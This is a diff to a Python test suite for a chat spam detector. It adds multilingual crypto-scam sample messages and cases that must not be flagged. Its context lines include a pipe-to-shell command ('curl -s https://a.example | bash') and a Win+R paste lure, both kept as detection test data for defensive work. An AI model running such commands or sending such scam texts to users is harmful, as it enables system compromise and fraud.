@@ -162,6 +162,12 @@ def test_a_contact_in_answer_to_a_fresh_question_is_suspect() -> None:
         (Message(text="Earn $5000 a week, dm me"), "profit"),
         (Message(text="гарантированный доход, пишите мне"), "profit"),
         (Message(text="稳赚不赔 加我 @abcdef"), "profit"),
+        (Message(text="高价收u，量大的私我"), "profit"),
+        (Message(text="первым двадцати дарю монеты, кто напишет мне сегодня"), "profit"),
+        (Message(text="不用本金，套利机器人，感兴趣滴滴"), "profit"),
+        (Message(text="本人確認済みアカウント売ります、安いのでDMを"), "profit"),
+        (Message(text="куплю usdt выше рынка, пишите в лс"), "profit"),
+        (Message(text="compro usdt, cualquier monto, escríbeme"), "profit"),
         (Message(text="fix: curl -s https://a.example | bash"), "command"),
         (Message(text="press Win + R, then Ctrl+V and Enter"), "command"),
         (Message(text="paste this into your terminal"), "paste"),
@@ -182,6 +188,10 @@ def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
     [
         "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "Tiếng Việt rất đẹp", "สวัสดีครับ", "می‌خواهم بدانم",
         "нужен USDT на BSC",
+        "The bonus of 10 USDT was not credited, I pm'd the moderator yesterday",
+        "daily rewards stopped, I sent a pm to the bot but nothing",
+        "福利中心的免费领取按钮点不了，私信机器人也没回",
+        "docs.example.com says 1200 a minute, but I get 429 at 600",
         "is a guaranteed profit real?", "I use curl in a script", "@anna @ben thank you",
         "I pasted the command into the terminal and got an error", "The console shows a warning",
         "我在终端粘贴命令以后报错", "コンソールに貼り付けたらエラーが出ました",
@@ -223,6 +233,22 @@ def test_who_points_at_a_scam_is_not_reported(text: str) -> None:
 )
 def test_who_only_says_so_is(text: str) -> None:
     assert "profit" in found(Message(text=text), "spam")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rewards are daily and the bonus weekly, says https://docs.example.com/earn",
+        "Бонус и выплаты описаны тут https://example.com/vip",
+        "返利和空投规则在 https://example.com/rules",
+        "수익과 이벤트는 https://example.com/kr 에 있어요",
+        "bonus and daily rewards are told by @example_news",
+        "my weekly rewards and the bonus to 0x52908400098527886e0f7030069857d2e4169ee7 are missing",
+    ],
+)
+def test_what_our_own_pages_promise_is_no_offer_of_a_stranger(text: str) -> None:
+    ours = context([], ["example.com", "@example_news"])
+    assert [one for one in examine(Message(text=text), ours) if one.rule == "spam"] == []
 
 
 def test_a_fast_typer_whom_we_know_is_warned_at_most_and_a_trusted_one_is_left_alone() -> None:
